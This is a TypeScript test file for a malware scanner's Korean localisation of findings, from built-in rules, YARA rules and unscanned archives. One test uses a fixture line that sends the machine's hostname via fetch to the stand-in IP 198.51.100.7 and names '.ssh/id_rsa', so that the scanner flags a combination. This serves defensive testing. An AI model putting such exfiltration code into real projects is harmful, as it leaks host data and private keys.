/** The Korean words of findings: every rule of the product has its own, and the rules of others keep theirs. */
import assert from 'node:assert/strict';
import { glob, readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { repositoryInKorean } from './in-korean.ts';
import { RULES, type RuleId } from './rules.ts';
import { scanTree } from './scan-tree.ts';
import type { TreeFile } from './tree-file.ts';

const SENTENCE = /(?:니다|세요)\.$/;
const finding = (rule: string, text = 'Text.', advice = 'Advice.') =>
  ({ rule, level: 'error', file: 'a.js', line: 1, column: 1, confidence: 90, text, excerpt: '', advice }) as const;
const korean = (...findings: ReturnType<typeof finding>[]) => repositoryInKorean({ findings, unscanned: [] }).findings;
const file = (path: string, content: string): TreeFile => {
  const bytes = new TextEncoder().encode(content);
  return { path, bytes, size: bytes.length };
};

test('every rule says what was found, and what to do, in whole Korean sentences', () => {
  for (const rule of Object.keys(RULES) as RuleId[]) {
    const [said] = korean(finding(rule, RULES[rule].text, RULES[rule].advice));
    assert.match(said?.text ?? '', SENTENCE, rule);
    assert.match(said?.advice ?? '', SENTENCE, rule);
  }
});

test('every built-in YARA rule says in Korean what it found, under either form of its id', async () => {
  for await (const path of glob('../malware/rules/*.yar', { cwd: import.meta.dirname })) {
    const source = await readFile(new URL(path, import.meta.url), 'utf8');
    for (const [, name] of source.matchAll(/^rule (\w+)/gm))
      for (const id of [`yara:${name}`, `yara/${name}`]) assert.match(korean(finding(id))[0]?.text ?? '', SENTENCE, id);
  }
});

test('a rule of somebody else keeps its words, whatever its name', () => {
  for (const rule of ['yara/theirs', 'constructor', 'yara/__proto__'])
    assert.equal(korean(finding(rule, 'Their words.'))[0]?.text, 'Their words.');
});

test('signs that stand together are said one by one, and nothing but words changes', () => {
  const result = scanTree([
    file(
      'a.js',
      "fetch('http://198.51.100.7/x', { body: require('os').hostname() });\nconst hidden = '.ssh/id_rsa';\n",
    ),
  ]);
  const combined = result.findings.findIndex(({ rule }) => rule === 'combination');
  assert.ok(combined >= 0, JSON.stringify(result.findings));
  const said = repositoryInKorean(result);
  assert.ok((said.findings[combined]?.text.match(/니다\./g) ?? []).length >= 2);
  const bare = ({ findings, ...rest }: typeof result) => ({
    ...rest,
    findings: findings.map((one) => ({ ...one, text: '', advice: '' })),
  });
  assert.deepEqual(bare(said), bare(result));
});

test('what was not read says why in Korean', () => {
  const { unscanned } = repositoryInKorean({
    findings: [],
    unscanned: [{ file: 'a.zip', reason: 'encrypted', detail: 'It is encrypted.' }],
  });
  assert.match(unscanned[0]?.detail ?? '', SENTENCE);
});
